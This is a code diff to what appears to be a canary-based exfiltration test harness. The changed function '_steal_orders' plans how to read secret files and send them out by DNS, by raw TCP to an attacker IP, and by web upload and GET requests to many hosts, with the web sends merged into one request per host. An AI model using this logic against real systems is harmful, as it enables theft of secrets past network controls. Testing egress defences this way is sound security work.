@@ -79,19 +79,30 @@ def _upload_fix(p: Probe, access: Access) -> str:
 # --- read every secret, send it every way -----------------------------------------------------
 
 
+WEB_LABEL = "s"  # the one web send of every secret at once (its own fresh names, apart from each file's)
+
+
 def _steal_orders(p: Probe, ctx: OrderContext) -> list[Step]:
+    """One step per secret: read it, send it by DNS and raw TCP. The web sends ride on the first step only,
+    carrying every secret it can read (``also``) in one request per URL: one request per host instead of one
+    per host and secret, which was most of a run's requests and the runner's time. Every host is still asked,
+    and a canary that arrives anywhere is still seen (``canary_sightings`` looks for each file's own)."""
     m = ctx.markers
     steps: list[Step] = []
+    web_tag = m.steal_tag(WEB_LABEL)
     for i, path in enumerate(ctx.loot):
         label = f"s{i}"
         tag = m.steal_tag(label)
+        first = i == 0
+        web_hosts = dict.fromkeys([*ctx.hosts, *allowed_names(ctx, WEB_LABEL), m.fresh_host(WEB_LABEL)]) if first else {}
         steps.append({
             "op": "steal", "path": ctx.rebase(path),
             "tcp": {"host": ctx.attacker_ip, "port": ctx.raw.at(TCP_SINK_PORT), "prefix": tag + "\n"},
             "dns_suffix": m.steal_dns_suffix(label),
-            "urls": [web_url(ctx, h, f"/upload/{tag}") for h in dict.fromkeys([*ctx.hosts, *allowed_names(ctx, label), m.fresh_host(label)])],
+            "urls": [web_url(ctx, h, f"/upload/{web_tag}") for h in web_hosts],
             # a download whose URL ends in what was read: where the attacker reads request URLs, that is a way out
-            "get_urls": [web_url(ctx, h, f"/npm/{tag}/") for h in ctx.urls],
+            "get_urls": [web_url(ctx, h, f"/npm/{web_tag}/") for h in ctx.urls] if first else [],
+            "also": [ctx.rebase(q) for q in ctx.loot[1:]] if first else [],
         })
     return steps
 
